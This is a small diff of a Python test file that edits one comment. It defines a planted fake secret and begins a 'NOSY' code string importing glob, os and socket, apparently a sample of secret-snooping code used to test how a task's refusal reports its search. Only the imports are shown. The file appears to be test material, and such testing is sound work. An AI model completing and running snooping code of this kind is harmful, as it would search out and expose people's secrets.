@@ -13,7 +13,7 @@ pytestmark = pytest.mark.timeout(600)
 
 SECRET = "sk-planted-9f1c77"
 
-# The refusal of the task reports its findings: that it searched, how far it got, and what it found.
+# The task's refusal reports its findings: that it searched, how far it got, and what it found.
 NOSY = f"""import glob
 import os
 import socket
